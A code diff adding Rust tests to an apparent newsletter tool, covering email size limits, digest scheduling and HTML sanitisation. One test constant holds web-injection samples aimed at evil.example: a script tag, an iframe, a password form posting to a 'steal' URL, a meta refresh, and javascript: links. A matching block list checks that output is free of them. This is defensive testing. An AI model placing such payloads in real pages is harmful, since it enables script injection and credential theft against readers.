@@ -336,3 +336,232 @@ fn init_writes_a_working_project_and_never_overwrites() {
     ]);
     out.ok();
 }
+
+/// A Markdown table of `rows` × `cols` cells.
+fn table(rows: usize, cols: usize) -> String {
+    let row = format!("|{}\n", "a|".repeat(cols));
+    format!("|{}\n|{}\n", "h|".repeat(cols), "-|".repeat(cols)) + &row.repeat(rows)
+}
+
+#[test]
+fn a_huge_post_is_refused_with_its_file_and_the_limit() {
+    // Issue 24: a 4.8 MB post of a 5,000 × 500 table took 10 s and 1.84 GB
+    // to preview and gave a 158 MB email.
+    let p = two_posts();
+    p.post("huge", "Huge", "2026-11-21", &table(5_000, 500));
+    let out = p.run(&["preview", "post", "huge"]);
+    out.fails_with(
+        "huge.md: the post's HTML alone is over the largest allowed (2.0 MB, `[paths] max_email_size`)",
+    );
+    assert_eq!(out.code(), 1);
+    assert!(out.stdout().is_empty(), "no email printed");
+    assert_eq!(out.stderr().lines().count(), 1, "{}", out.stderr());
+    // `posts check` names it too, and the other posts are fine.
+    let check = p.run(&["posts", "check"]);
+    check.fails_with("huge.md: the post's HTML alone is over");
+    assert!(!check.stderr().contains("first.md"), "{}", check.stderr());
+    // Any other post still previews.
+    p.run(&["preview", "post", "first"]).ok();
+}
+
+#[test]
+fn the_email_size_limit_is_configurable_and_gmail_clipping_is_warned() {
+    // About 1.2 MB of HTML once styles are inlined: over Gmail's 102 KB,
+    // under the 2 MB default.
+    let p = two_posts();
+    p.post("long", "Long", "2026-11-21", &table(1_000, 20));
+    let out = p.run(&["preview", "post", "long"]);
+    out.ok();
+    assert!(out.stdout().contains("<table"));
+    let stderr = out.stderr();
+    let warning: Vec<&str> = stderr
+        .lines()
+        .filter(|l| l.contains("Gmail clips"))
+        .collect();
+    assert_eq!(warning.len(), 1, "{}", out.stderr());
+    assert!(
+        warning[0].contains("long.md: the email's HTML is "),
+        "{}",
+        warning[0]
+    );
+    // A small post gives no warning.
+    let small = p.run(&["preview", "post", "first"]);
+    small.ok();
+    assert!(!small.stderr().contains("Gmail"), "{}", small.stderr());
+
+    // Under a 100KB limit the same post is refused; under 20KB even a
+    // small one whose email (templates and inlined styles) is larger.
+    let with_limit = |limit: &str| {
+        let p = Project::with_config(&format!(
+            "{}\n[paths]\nmax_email_size = \"{limit}\"\n",
+            crate::helpers::CONFIG
+        ));
+        p.post("long", "Long", "2026-11-21", &table(1_000, 20));
+        p.post("short", "Short", "2026-11-21", &table(60, 20));
+        p
+    };
+    let p = with_limit("100KB");
+    p.run(&["preview", "post", "long"]).fails_with(
+        "long.md: the post's HTML alone is over the largest allowed (100 KB, `[paths] max_email_size`)",
+    );
+    p.run(&["preview", "post", "short"]).ok();
+    let p = with_limit("20KB");
+    p.run(&["preview", "post", "short"])
+        .fails_with("short.md: the email would be");
+    p.run(&["preview", "post", "short"])
+        .fails_with("over the largest allowed (20 KB, `[paths] max_email_size`)");
+    let p = with_limit("lots");
+    p.run(&["posts", "list"])
+        .fails_with("gazette.toml:10: paths.max_email_size:");
+}
+
+#[test]
+fn raw_html_is_sanitised_in_the_email() {
+    let p = two_posts();
+    p.post("tricky", "Tricky", "2026-11-21", TRICKY);
+    let out = p.run(&["preview", "post", "tricky"]);
+    out.ok();
+    assert_no_tricks(&out.stdout());
+    let html = out.stdout();
+    // What Markdown made stays.
+    assert!(html.contains("<strong"), "{html}");
+    assert!(html.contains("href=\"https://ok.example/\""), "{html}");
+    assert!(
+        html.contains("href=\"https://example.com/blog/tricky/rel/x\""),
+        "{html}"
+    );
+    // The text part shows no script link either; the eml no HTML trick.
+    let text = p.run(&["preview", "post", "tricky", "--format", "text"]);
+    text.ok();
+    assert!(text.stdout().contains("click"), "{}", text.stdout());
+    assert_no_tricks(&text.stdout());
+    let eml = p.run(&["preview", "post", "tricky", "--format", "eml"]);
+    eml.ok();
+    assert!(!eml.stdout().contains("<script"), "{}", eml.stdout());
+
+    // A trusted author opts out with `raw_html = true`.
+    p.write(
+        "posts/trusted.md",
+        format!("+++\ntitle = \"Trusted\"\ndate = 2026-11-21\nraw_html = true\n+++\n{TRICKY}"),
+    );
+    let out = p.run(&["preview", "post", "trusted"]);
+    out.ok();
+    assert!(out.stdout().contains("<iframe"), "{}", out.stdout());
+    // `raw_html` must be a boolean, at its line.
+    p.write(
+        "posts/trusted.md",
+        "+++\ntitle = \"Trusted\"\ndate = 2026-11-21\nraw_html = \"yes\"\n+++\nx",
+    );
+    p.run(&["posts", "check"])
+        .fails_with("trusted.md:4: `raw_html` must be true or false");
+}
+
+/// Raw HTML and links a post must not smuggle into an email or the archive.
+const TRICKY: &str = "Hello **there**.\n\n\
+    <meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n\n\
+    <script>alert('s')</script>\n\n\
+    <iframe src=\"https://evil.example/frame\"></iframe>\n\n\
+    <form action=\"https://evil.example/steal\"><input type=\"password\" name=\"pw\"></form>\n\n\
+    <p onmouseover=\"alert('m')\">hover</p>\n\n\
+    [click](javascript:alert('j')) [data](data:text/html;base64,PHNjcmlwdD4=) \
+    [ok](https://ok.example/) <a href=\"rel/x\">relative</a>\n";
+
+fn assert_no_tricks(html: &str) {
+    let lower = html.to_ascii_lowercase();
+    for bad in [
+        "http-equiv",
+        "evil.example",
+        "<script",
+        "alert(",
+        "<iframe",
+        "<form",
+        "password",
+        "onmouseover",
+        "javascript:",
+        "data:text",
+    ] {
+        assert!(!lower.contains(bad), "{bad:?} in\n{html}");
+    }
+}
+
+#[test]
+fn raw_html_is_sanitised_in_the_public_archive() {
+    let p = Project::with_config(&format!(
+        "{}\n[archive]\nenabled = true\n",
+        crate::helpers::CONFIG
+    ));
+    p.post("tricky", "Tricky", "2026-11-21", TRICKY);
+    p.run(&["subscribers", "add", "r@example.org", "--confirmed"])
+        .ok();
+    p.run(&["send", "post", "tricky", "--yes"]).ok();
+    let s = crate::security::serve(&p, &[]);
+    let page = crate::http::get(s.addr, "/archive/1/test-notes-tricky");
+    assert_eq!(page.status, 200, "{}", page.body);
+    assert!(page.body.contains("Hello"), "{}", page.body);
+    assert_no_tricks(&page.body);
+}
+
+#[test]
+fn a_scheduled_post_is_in_the_digest_preview_of_its_window() {
+    // Now is 2026-11-23 12:00 (helpers); "soon" is published on the 25th.
+    let p = two_posts();
+    p.post("soon", "Coming soon", "2026-11-25", "Soon.");
+    p.post("unfinished", "Unfinished", "2026-11-24", "x");
+    p.write(
+        "posts/unfinished.md",
+        "+++\ntitle = \"Unfinished\"\ndate = 2026-11-24\ndraft = true\n+++\nx",
+    );
+    let out = p.run(&[
+        "preview",
+        "digest",
+        "--since",
+        "2026-11-20",
+        "--until",
+        "2026-11-27",
+        "--format",
+        "text",
+    ]);
+    out.ok();
+    let t = out.stdout();
+    let soon = t.find("Coming soon").expect(&t);
+    let second = t.find("Second & <b>bold</b>").expect(&t);
+    assert!(soon < second, "newest first:\n{t}");
+    assert!(t.contains("First post"), "{t}");
+    assert!(!t.contains("Unfinished"), "drafts stay out:\n{t}");
+    assert!(
+        out.stderr()
+            .contains("note: soon is scheduled (2026-11-25) and would not be in a digest sent now"),
+        "{}",
+        out.stderr()
+    );
+    // The default window ends now: the scheduled post is named, not lost.
+    let out = p.run(&["preview", "digest", "--format", "text"]);
+    out.ok();
+    assert!(!out.stdout().contains("Coming soon"), "{}", out.stdout());
+    assert!(
+        out.stderr().contains(
+            "note: soon is scheduled (2026-11-25), after this window: see it with --until 2026-11-25"
+        ),
+        "{}",
+        out.stderr()
+    );
+    // Sending never carries it early.
+    p.run(&["subscribers", "add", "r@example.org", "--confirmed"])
+        .ok();
+    p.run(&[
+        "send",
+        "digest",
+        "--since",
+        "2026-11-20",
+        "--until",
+        "2026-11-27",
+        "--yes",
+    ])
+    .ok();
+    let mut sent = String::new();
+    for e in std::fs::read_dir(p.path().join("outbox")).unwrap() {
+        sent += &std::fs::read_to_string(e.unwrap().path()).unwrap();
+    }
+    assert!(sent.contains("Second"), "{sent}");
+    assert!(!sent.contains("Coming soon"), "{sent}");
+}
